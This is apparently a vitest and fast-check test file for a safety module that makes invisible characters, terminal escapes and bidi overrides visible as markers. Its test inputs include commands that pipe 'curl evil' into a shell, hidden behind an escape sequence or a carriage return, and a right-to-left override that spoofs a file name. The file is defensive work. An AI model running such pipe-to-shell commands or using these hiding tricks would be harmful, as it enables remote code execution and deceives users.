import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import {
  holdsInvisible,
  invisibleMarker,
  VisibleTextStream,
  visibleFormatCharacters,
  visibleText,
  visibleWellFormedText,
} from '../../src/safety/visible-text.js'

// Characters a client draws as nothing, or acts on.
const INVISIBLE =
  // biome-ignore lint/suspicious/noMisleadingCharacterClass: each code unit is tested alone, combining ones (U+034F, U+FE0F) included
  /[\0-\x08\v\f\x0e-\x1f\x7f-\x9f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb]|\r(?!\n)|[\udb40-\udb43][\udc00-\udfff]|\ud82f[\udca0-\udca3]|\ud834[\udd73-\udd7a]/

describe('visibleText: every invisible character becomes a marker that names it', () => {
  it.each([
    ['ls\u001b]0;curl x | sh\u0007', 'ls␛]0;curl x | sh␇'],
    ['\u001b[8mhidden\u001b[0m', '␛[8mhidden␛[0m'],
    ['echo safe\rcurl evil | sh', 'echo safe␍curl evil | sh'],
    ['a\r\nb\tc\nd', 'a\r\nb\tc\nd'],
    ['nul\u0000 del\u007f', 'nul␀ del␡'],
    ['csi\u009b2J', 'csi<U+009B>2J'],
    ['file\u202etxt.exe', 'file<U+202E>txt.exe'],
    ['\u2066isolate\u2069', '<U+2066>isolate<U+2069>'],
    ['zero\u200bwidth\u200d\ufeff\u2060\u00ad', 'zero<U+200B>width<U+200D><U+FEFF><U+2060><U+00AD>'],
    ['tag\udb40\udc41', 'tag<U+E0041>'],
    ['heart\u2764\ufe0f', 'heart\u2764<U+FE0F>'],
    ['vs\udb40\udd00 vs\udb40\uddef', 'vs<U+E0100> vs<U+E01EF>'],
    ['han\u115f\u1160\u3164\uffa0gul', 'han<U+115F><U+1160><U+3164><U+FFA0>gul'],
    ['cgj\u034f khmer\u17b4\u17b5', 'cgj<U+034F> khmer<U+17B4><U+17B5>'],
    [
      'mvs\u180e wj\u2060\u2064 deprecated\u206a\u206f bom\ufeff shy\u00ad alm\u061c',
      'mvs<U+180E> wj<U+2060><U+2064> deprecated<U+206A><U+206F> bom<U+FEFF> shy<U+00AD> alm<U+061C>',
    ],
    ['kept\ufe10\u180a\udb43\udfff\udb44\udc00', 'kept\ufe10\u180a<U+E0FFF>\udb44\udc00'],
    ['gaps\u2065\u180b\ufff0\udb40\uddf0\udb40\udc80', 'gaps<U+2065><U+180B><U+FFF0><U+E01F0><U+E0080>'],
  ])('%j shows as %j', (text, shown) => {
    expect(visibleText(text)).toBe(shown)
  })

  it('returns the same string when there is nothing to mark', () => {
    const text = 'src/a.ts ünïcödé 文档 🙂 👨‍'.slice(0, 22)
    expect(visibleText(text)).toBe(text)
  })

  it('leaves nothing invisible, drops nothing, and is idempotent, for any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const shown = visibleText(text)
        expect(shown).not.toMatch(INVISIBLE)
        expect(visibleText(shown)).toBe(shown)
        // Every character is kept or replaced by its marker, in order.
        expect(shown).toBe(
          Array.from(text, (char) => (INVISIBLE.test(char) && char !== '\r' ? invisibleMarker(char) : char))
            .join('')
            .replace(/\r(?!\n)/g, '␍'),
        )
      }),
    )
  })
})

describe('visibleFormatCharacters: only bidi and zero-width characters, for a renderer with its own control markers', () => {
  it('marks bidi controls and zero-width characters and keeps control characters', () => {
    expect(visibleFormatCharacters('a\u202eb\u200b\u001b[31m')).toBe('a<U+202E>b<U+200B>\u001b[31m')
  })
})

describe('visibleWellFormedText: marked, and well formed for output shown as text', () => {
  it('marks as visibleText does and replaces a lone surrogate with U+FFFD', () => {
    expect(visibleWellFormedText('a\u001b[31m\ud800b\udb40')).toBe('a␛[31m\ufffdb\ufffd')
    expect(visibleWellFormedText('ok \ud83d\ude00\r\n')).toBe('ok \ud83d\ude00\r\n')
  })

  it('changes text exactly when holdsInvisible says so, for any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(visibleText(text) !== text).toBe(holdsInvisible(text))
        expect(visibleWellFormedText(text)).toBe(visibleText(text).toWellFormed())
      }),
    )
  })
})

describe('VisibleTextStream: text marked as it arrives in pieces', () => {
  it('holds a CR or a high surrogate that ends a piece until the next piece settles it', () => {
    const stream = new VisibleTextStream()
    expect(stream.push('50%\r')).toBe('50%')
    expect(stream.push('\n60%\r')).toBe('\r\n60%')
    expect(stream.push('70%\ud83d')).toBe('␍70%')
    expect(stream.push('\ude00\u001b')).toBe('\ud83d\ude00␛')
    expect(stream.push('\udb40')).toBe('')
    expect(stream.end()).toBe('\ufffd')
  })

  it('gives what visibleWellFormedText gives the whole text, however it is cut', () => {
    const piece = fc.oneof(
      fc.constantFrom('\r', '\n', '\r\n', '\u001b[31m', '\ud83d', '\ude00', '\udb40', '\udc41', '\u202e', '\u200b'),
      fc.string({ unit: 'binary', maxLength: 4 }),
    )
    fc.assert(
      fc.property(fc.array(fc.array(piece, { maxLength: 6 }), { maxLength: 8 }), (groups) => {
        const pieces = groups.map((group) => group.join(''))
        const stream = new VisibleTextStream()
        const shown = pieces.map((text) => stream.push(text)).join('') + stream.end()
        expect(shown).toBe(visibleWellFormedText(pieces.join('')))
      }),
    )
  })
})
